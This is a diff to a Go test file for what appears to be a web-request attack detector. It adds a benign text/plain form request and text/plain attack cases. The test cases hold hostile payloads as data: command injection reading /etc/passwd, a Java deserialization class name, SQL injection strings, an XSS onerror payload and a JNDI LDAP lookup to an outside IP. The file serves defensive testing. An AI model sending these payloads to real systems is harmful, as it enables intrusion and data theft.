@@ -579,6 +579,8 @@ func realisticBenign() []realReq {
 		body: `<?xml version="1.0" encoding="UTF-8"?><gpx version="1.1" creator="Strava" xmlns="http://www.topografix.com/GPX/1/1" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.topografix.com/GPX/1/1 http://www.topografix.com/GPX/1/1/gpx.xsd"><trk><name>Morning run -- Phoenix Park</name><trkseg><trkpt lat="53.3559" lon="-6.3298"><ele>25.1</ele><time>2026-12-03T07:00:00Z</time></trkpt></trkseg></trk></gpx>`})
 	add(realReq{name: "RSS feed submitted", method: "POST", target: "/api/feeds/preview", ctype: "application/rss+xml", hdr: with(hdrXHR),
 		body: `<?xml version="1.0" encoding="UTF-8"?><?xml-stylesheet type="text/xsl" href="/feed.xsl"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Example Blog</title><link>https://blog.example.com/</link><item><title>Union vs. join: when to select which</title><link>https://blog.example.com/union-vs-join</link><description><![CDATA[<p>We compare <code>UNION ALL</code> and <code>JOIN</code> on a 10M-row table.</p><img src="https://blog.example.com/img/chart.png" alt="chart">]]></description></item></channel></rss>`})
+	add(realReq{name: "HTML form sent as text/plain", method: "POST", target: "/contact", ctype: "text/plain", hdr: with(hdrChrome, "Origin", "https://www.example.com"),
+		body: "name=Alice O'Neil\r\nemail=alice@example.com\r\nsubject=Quote for 3 items & delivery\r\nmessage=Hello, I'd like a quote; we're in Zürich (8001). Thanks!\r\n"})
 	xmlrpc := `<?xml version="1.0"?><methodCall><methodName>wp.getPosts</methodName><params><param><value><int>1</int></value></param><param><value><string>editor</string></value></param><param><value><string>s3cr3t'pass</string></value></param><param><value><struct><member><name>post_type</name><value><string>post</string></value></member><member><name>number</name><value><int>10</int></value></member></struct></value></param></params></methodCall>`
 	add(realReq{name: "XML-RPC call", method: "POST", target: "/api/rpc", ctype: "text/xml", hdr: []string{"User-Agent", "WordPress/6.7; https://blog.example.com"}, body: xmlrpc})
 	add(realReq{name: "WordPress XML-RPC call", left: "xmlrpc.php is a listed admin surface (exclusion in docs/detection-grammar.md)", method: "POST", target: "/xmlrpc.php", ctype: "text/xml", hdr: []string{"User-Agent", "WordPress/6.7; https://blog.example.com"}, body: xmlrpc})
@@ -630,6 +632,10 @@ func TestRealisticContextAttacks(t *testing.T) {
 		{name: "XSS in an NDJSON batch", method: "POST", target: "/api/v2/rum", ctype: "text/plain;charset=UTF-8", body: `{"a":1}` + "\n" + `{"view":{"name":"<img src=x onerror=alert(document.domain)>"}}`},
 		{name: "command after NDJSON lines", method: "POST", target: "/v1/batch", ctype: "text/plain", body: `{"a":1}` + "\n" + `{"b":2}` + "\n" + `;cat /etc/passwd`},
 		{name: "JNDI in a gzip NDJSON batch", method: "POST", target: "/api/envelope/", ctype: "text/plain", gzip: true, body: `{"event_id":"1"}` + "\n" + `{"type":"event"}` + "\n" + `{"message":"${jndi:ldap://203.0.113.9/a}"}`},
+		// A form sent as text/plain (one field per line) is read as a form.
+		{name: "command in a text/plain form line", method: "POST", target: "/contact", ctype: "text/plain", body: "name=x\r\nmessage=;cat /etc/passwd\r\n"},
+		{name: "Java class in a text/plain form", method: "POST", target: "/api/import", ctype: "text/plain", body: "type=java.io.FileOutputStream"},
+		{name: "SQLi in a text/plain form", method: "POST", target: "/search", ctype: "text/plain;charset=UTF-8", body: "q=1' or '1'='1' -- \r\npage=2"},
 		// SQL editor fields: only a read-only statement with plain quoted
 		// spans passes; injections in such fields do not.
 		{name: "breakout in a query field", method: "POST", target: "/api/dataset", ctype: "application/json", body: jsonBody("query", "' OR 1=1-- ")},
